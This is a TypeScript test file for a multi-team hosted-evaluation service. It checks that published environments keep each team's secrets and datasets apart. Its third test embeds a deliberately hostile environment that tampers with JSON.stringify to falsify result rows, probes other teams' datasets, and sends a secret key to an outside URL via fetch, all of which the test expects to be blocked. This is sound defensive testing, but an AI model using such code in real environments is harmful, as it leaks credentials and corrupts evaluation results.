import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { sha256Hex } from "../../../src/config/sha256.ts";
import { pushForm } from "../../support/door/push-form.ts";
import { Fleet } from "../support/fleet.ts";
import { closeTeam, CREATION, type Door, openTeam } from "../support/people.ts";
import { everyRollout, namesOf, type ResultRow } from "../support/runs.ts";
import { ScriptedModel } from "../support/scripted-model.ts";
import { run, service } from "../support/service.ts";

/** What each team has under the name that the environment declares. */
const VALUES = { acme: "ada-value-0123456789", quokkas: "bob-value-9876543210" };
const UPLOADS = { acme: '{"question":"words of acme"}\n', quokkas: '{"question":"words of quokkas"}\n' };
type Team = keyof typeof VALUES;

let door: Door;
let fleet: Fleet | undefined;
let ada: string;
let bob: string;

beforeEach(async () => {
  ({ door, ada } = await openTeam(["runs:write", "environments:write", "secrets:write"]));
  await door.join("bob", ["quokkas"]);
  bob = await door.token("bob", ["quokkas"], ["runs:write", "secrets:write"]);
  for (const [token, team] of [
    [ada, "acme"],
    [bob, "quokkas"],
  ] as const) {
    await door.json(token, "POST", "/secrets/", { name: "MAP_KEY", value: VALUES[team] });
    const bytes = new TextEncoder().encode(UPLOADS[team]);
    expect(await door.status(token, "PUT", `/datasets/${await sha256Hex(bytes)}`, bytes)).toBeLessThan(300);
  }
});
afterEach(async () => {
  await fleet?.close();
  fleet = undefined;
  await closeTeam();
});

/** An environment `acme/maps` that declares `MAP_KEY`: three examples whose `info` is what `info` comes to, with `top` before everything. */
const moduleOf = ({
  top = "",
  info = "({})",
  score = "return answer === '2' ? 0 : 1;",
}): string => `import { defineEnvironment, Rubric, SingleTurnEnv, z } from "./lib/index.js";
${top}
export default defineEnvironment({
  id: "maps", version: "1.0.0", description: "", args: z.object({}), keys: ["MAP_KEY"],
  load: (_args, { keys, rows, variables }) => new SingleTurnEnv({
    dataset: async function* () { for (const answer of ["0", "1", "2"]) yield { question: "maps asks " + answer, answer, info: await (${info}) }; },
    rubric: new Rubric([async function scored({ answer }) { ${score} }]),
  }),
});`;

/** Published by acme, for every team of the service. */
async function publish(module: string): Promise<string> {
  const { body, type } = await pushForm({ module, visibility: "PUBLIC" });
  await door.json(ada, "PUT", "/environmentshub/acme/maps/@1.0.0", body, { "content-type": type });
  return sha256Hex(module);
}

const MAPS = { ...CREATION, environment_ids: ["acme/maps"], eval_config: { ...CREATION.eval_config, max_concurrent: 2 } };
const given = (value: string) => ({ ...MAPS, eval_config: { ...MAPS.eval_config, custom_secrets: { MAP_KEY: value } } });
const start = async (token: string, body: object): Promise<string> =>
  (await door.json<{ evaluation_id: string }>(token, "POST", "/hosted-evaluations", body)).evaluation_id;

interface Ended {
  readonly rows: readonly ResultRow[];
  /** Rows and events, as they are stored. */
  readonly text: string;
}
async function endOf(team: Team, id: string): Promise<Ended> {
  await fleet?.settled(`${team}/${id}`, 30_000);
  const { objects } = await service.BUCKET.list({ prefix: `teams/${team}/outputs/` });
  const key = objects.map((each) => each.key).find((each) => each.endsWith(`${id}/results.jsonl`)) ?? "";
  const lines = (await (await service.BUCKET.get(key))?.text()) ?? "";
  const rows = lines.split("\n").flatMap((line) => (line === "" ? [] : [JSON.parse(line) as ResultRow]));
  return { rows, text: lines + JSON.stringify(await run(`${team}/${id}`).events(0, 1_000)) };
}

/** The published environment in runs of both teams, with a bundled one of bob's, at once in one executor. */
async function besideHonest(module: string) {
  const digest = await publish(module);
  fleet = new Fleet({ model: new ScriptedModel({ latencyMs: 5 }), executors: 1, budget: { requests: 16 } });
  const [own, others, honest] = [await start(ada, MAPS), await start(bob, given(VALUES.quokkas)), await start(bob, CREATION)];
  fleet.start();
  const fair = await endOf("quokkas", honest);
  expect(fair.rows.map(({ example_id, error }) => [example_id, error ?? null])).toEqual([0, 1, 2].map((each) => [each, null]));
  const ended = { acme: await endOf("acme", own), quokkas: await endOf("quokkas", others), fair };
  const pins = await Promise.all([`acme/${own}`, `quokkas/${others}`].map(async (name) => (await run(name).view())?.config.published));
  expect(pins).toEqual(Array(2).fill({ owner: "acme", name: "maps", version: "1.0.0", digest }));
  // No text of a run has a value, and none of one team has anything of the other's.
  for (const { text } of Object.values(ended)) for (const value of Object.values(VALUES)) expect(text).not.toContain(value);
  for (const { text } of Object.values(ended)) expect(text).not.toMatch(/words of (acme|quokkas)/);
  return ended;
}
const infos = ({ rows }: Ended) => rows.map(({ info }) => info);

describe("a published environment, run by its own team and by another", () => {
  it("plays for both, pinned to its code: its own team's run has the secret that it declares, the other's what was given to it, and each its own globals", async () => {
    const info = `({ names: Object.keys(keys), whose: keys.MAP_KEY.slice(0, 3), seen: (globalThis.seen ??= new Set()).add(keys.MAP_KEY).size, variables })`;
    const ended = await besideHonest(moduleOf({ info }));
    for (const [team, whose] of [
      ["acme", "ada"],
      ["quokkas", "bob"],
    ] as const) {
      expect(infos(ended[team])).toEqual(Array(3).fill({ names: ["MAP_KEY"], whose, seen: 1, variables: {} }));
      expect(namesOf(ended[team].rows)).toEqual(everyRollout(3, 1));
      expect(ended[team].rows.map(({ reward, error }) => [reward, error ?? null])).toEqual([
        [1, null],
        [1, null],
        [0, null],
      ]);
    }
  });

  it("gets no secret that the other team keeps for itself, and none of its owner's there: such a run is refused by the name of the key", async () => {
    await publish(moduleOf({}));
    const refused = await door.call(bob, "POST", "/hosted-evaluations", MAPS);
    expect([refused.status, await refused.json()]).toEqual([422, expect.objectContaining({ code: "missing_key", detail: expect.stringContaining("MAP_KEY") })]);
  });

  it("that is hostile reaches nothing of the other team: not its secret, its data or its rows, and what it prints and throws of its own is masked", async () => {
    const digests = await Promise.all(Object.values(UPLOADS).map((text) => sha256Hex(new TextEncoder().encode(text))));
    const wanted = [
      ...digests.map((digest) => `sha256:${digest}`),
      `teams/quokkas/datasets/${digests[1]}`,
      `teams/acme/datasets/${digests[0]}`,
      "https://models.example/v1",
    ];
    const top = `
      const write = JSON.stringify;
      JSON.stringify = (...args) => { const text = write(...args); return typeof text === "string" ? text.replaceAll('"example_id":1', '"example_id":0').replaceAll('"rollout":0', '"rollout":5') : text; };
      const reach = async (rows, keys) => {
        const found = { keys: Object.values(keys) };
        for (const dataset of ${JSON.stringify(wanted)}) { try { for await (const row of rows({ dataset })(1)) found[dataset] = "reached " + write(row); } catch (error) { found[dataset] = "refused"; } }
        try { found.network = "reached " + (await fetch("https://models.example/?" + keys.MAP_KEY)).status; } catch { found.network = "refused"; }
        return found;
      };`;
    const score =
      'console.log("mine:", Object.values(globalThis.had).join()); if (answer === "2") throw new Error("broke with " + globalThis.had.MAP_KEY); return 1;';
    const ended = await besideHonest(moduleOf({ top, info: "(globalThis.had = keys, reach(rows, keys))", score }));
    for (const team of ["acme", "quokkas"] as const) {
      expect(ended[team].text).toMatch(/\[env\] mine: \[secret\]/);
      expect(ended[team].text).not.toContain("reached");
      expect(ended[team].rows[0]?.info).toEqual({ keys: ["[secret]"], network: "refused", ...Object.fromEntries(wanted.map((each) => [each, "refused"])) });
    }
    expect(ended.fair.text).not.toContain("maps");
  });
});
